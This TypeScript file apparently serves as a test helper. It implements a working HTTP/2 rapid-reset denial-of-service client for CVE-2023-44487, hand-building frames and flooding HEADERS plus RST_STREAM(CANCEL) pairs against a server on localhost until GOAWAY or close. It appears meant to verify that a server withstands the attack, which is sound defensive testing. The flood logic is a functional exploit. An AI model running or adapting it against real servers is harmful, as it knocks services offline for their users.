// A raw HTTP/2 rapid-reset client (CVE-2023-44487): HEADERS immediately followed by RST_STREAM(CANCEL),
// many pairs per write, as attack tools send them. node:http2 cannot be used for this: its nghttp2
// never sends a stream it was told to cancel before the HEADERS went out.
import { once } from 'node:events'
import { connect as tlsConnect, type TLSSocket } from 'node:tls'

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1')

function frame (type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(streamId & 0x7fffffff, 5)
  return Buffer.concat([head, payload])
}

/** An HPACK block of GET `path` on `authority` (static-table names, literal values, no indexing). */
function headerBlock (path: string, authority: string): Buffer {
  const literal = (nameIndex: number, value: string): Buffer => Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value, 'latin1')])
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, authority)])
}

/** Resolves once `socket` drained, closed or failed (whichever comes first). */
async function writable (socket: TLSSocket): Promise<void> {
  await new Promise<void>(resolve => {
    const done = (): void => {
      socket.off('drain', done)
      socket.off('close', done)
      socket.off('error', done)
      resolve()
    }
    socket.once('drain', done)
    socket.once('close', done)
    socket.once('error', done)
  })
}

export interface RapidResetResult {
  /** HEADERS + RST_STREAM pairs written. */
  sent: number
  /** The error code of the server's first GOAWAY, if one came. */
  goaway: number | undefined
  /** Whether the server closed the connection. */
  closed: boolean
}

/**
 * Opens a TLS (ALPN h2) connection to 127.0.0.1:`port` and writes `batch` HEADERS+RST_STREAM pairs per
 * write until the server sends GOAWAY or closes, `maxStreams` pairs were sent, or `durationMs` passed.
 */
export async function rapidReset (opts: {
  port: number
  ca?: string | string[]
  servername?: string
  path?: string
  batch?: number
  maxStreams?: number
  durationMs?: number
  /**
   * After each write, a PING, and the next write only once it is acknowledged (or the deadline
   * passed): the server has then read everything sent. Without it, a flood the server has not read
   * yet is in its receive buffer when it closes, the kernel answers that with RST, and the GOAWAY
   * still on its way can be lost: a test of what the server says wants the pace, a load generator not.
   */
  paced?: boolean
}): Promise<RapidResetResult> {
  const socket = tlsConnect({
    host: '127.0.0.1',
    port: opts.port,
    servername: opts.servername ?? 'localhost',
    ALPNProtocols: ['h2'],
    ...(opts.ca !== undefined ? { ca: opts.ca } : { rejectUnauthorized: false })
  })
  socket.on('error', () => {})
  const result: RapidResetResult = { sent: 0, goaway: undefined, closed: false }
  socket.once('close', () => { result.closed = true })
  await once(socket, 'secureConnect')
  let inbox = Buffer.alloc(0)
  // Wakes a paced wait: its PING acknowledged, a GOAWAY, or the close.
  let wake: (() => void) | undefined
  socket.on('data', (chunk: Buffer) => {
    inbox = Buffer.concat([inbox, chunk])
    while (inbox.length >= 9) {
      const length = inbox.readUIntBE(0, 3)
      if (inbox.length < 9 + length) break
      const type = inbox.readUInt8(3)
      const flags = inbox.readUInt8(4)
      const payload = inbox.subarray(9, 9 + length)
      inbox = inbox.subarray(9 + length)
      if (type === 0x4 && (flags & 0x1) === 0) socket.write(frame(0x4, 0x1, 0, Buffer.alloc(0))) // SETTINGS ACK
      if (type === 0x7 && payload.length >= 8) result.goaway ??= payload.readUInt32BE(4)
      if (type === 0x7 || (type === 0x6 && (flags & 0x1) !== 0)) wake?.()
    }
  })
  socket.write(Buffer.concat([PREFACE, frame(0x4, 0, 0, Buffer.alloc(0))]))
  const block = headerBlock(opts.path ?? '/', opts.servername ?? 'localhost')
  const cancel = Buffer.alloc(4)
  cancel.writeUInt32BE(0x8)
  const batch = opts.batch ?? 100
  const maxStreams = opts.maxStreams ?? 100_000
  const deadline = Date.now() + (opts.durationMs ?? 10_000)
  let id = 1
  while (result.goaway === undefined && !result.closed && result.sent < maxStreams && Date.now() < deadline) {
    const frames: Buffer[] = []
    for (let i = 0; i < batch && result.sent < maxStreams; i++) {
      frames.push(frame(0x1, 0x5, id, block), frame(0x3, 0, id, cancel))
      id += 2
      result.sent++
    }
    // Not events.once: it rejects on 'error', and a server that sent GOAWAY and closed while this
    // write waited for room makes it fail with EPIPE — that is the end of the attack, not a failure.
    if (!socket.write(Buffer.concat(frames))) await writable(socket)
    if (opts.paced === true && result.goaway === undefined && !result.closed) {
      let done = (): void => {}
      const woken = new Promise<void>(resolve => { done = resolve })
      const timer = setTimeout(done, Math.max(0, deadline - Date.now()))
      wake = done
      socket.once('close', done)
      socket.write(frame(0x6, 0, 0, Buffer.alloc(8)))
      await woken
      clearTimeout(timer)
      socket.off('close', done)
      wake = undefined
    }
    await new Promise(resolve => setImmediate(resolve))
  }
  // A loaded server may still be reading what was sent: give its GOAWAY (or close) a bounded moment
  // to arrive before hanging up, so the result says what the server did, not how fast we left.
  const settleBy = Date.now() + 3000
  while (result.goaway === undefined && !result.closed && Date.now() < settleBy) await new Promise(resolve => setTimeout(resolve, 20))
  socket.destroy()
  return result
}
